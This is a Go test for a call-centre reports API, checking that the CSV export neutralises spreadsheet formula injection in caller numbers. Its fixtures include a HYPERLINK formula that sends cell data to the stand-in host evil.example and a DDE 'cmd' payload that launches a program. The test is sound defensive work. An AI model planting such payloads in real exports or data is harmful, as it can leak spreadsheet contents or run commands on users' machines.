package api_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/ipcc/ipcc/store"
	"github.com/ipcc/ipcc/store/storetest"
)

// A caller number is whatever the trunk or SIP peer sends: a CSV export
// must not hand a spreadsheet a formula built from it.
func TestReportsCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		e, tok, _ := reportEnv(t, s)
		at := time.Date(2026, 11, 5, 1, 0, 0, 0, time.UTC)
		for i, ani := range []string{`=HYPERLINK("http://evil.example/?"&A1,"call back")`, "+8613800138000", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"} {
			c := store.CallRecord{TenantID: "a", Direction: "inbound", ID: "x" + string(rune('0'+i)), ANI: ani, DNIS: "4001",
				StartedAt: at.Add(time.Duration(i) * time.Minute), Disposition: "abandoned_queue", QueueID: "q1"}
			if err := s.SaveCall(context.Background(), &c); err != nil {
				t.Fatal(err)
			}
		}
		r := e.do("GET", "/api/v1/reports/calls?from=2026-11-05&to=2026-11-06&format=csv", nil, bearer(tok["a/admin"])...)
		recs, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
		if err != nil || r.Status != 200 || len(recs) != 6 {
			t.Fatalf("%d %v %q", r.Status, err, recs)
		}
		got := map[string]string{}
		for _, rec := range recs[1:] {
			got[rec[0]] = rec[2]
		}
		want := map[string]string{
			"x0": `'=HYPERLINK("http://evil.example/?"&A1,"call back")`,
			"x1": "+8613800138000", // a plain number stays as it is
			"x2": "'@SUM(A1)",
			"x3": "'-2+3+cmd|' /C calc'!A0",
			"x4": "'\t=1+1",
		}
		for id, w := range want {
			if got[id] != w {
				t.Errorf("%s: ani cell %q, want %q", id, got[id], w)
			}
		}
		// JSON keeps the number exactly as received.
		r = e.do("GET", "/api/v1/reports/calls?from=2026-11-05&to=2026-11-06", nil, bearer(tok["a/admin"])...)
		if !strings.Contains(string(r.Body), `"ani":"@SUM(A1)"`) {
			t.Fatalf("JSON changed the number: %s", r.Body)
		}
	})
}
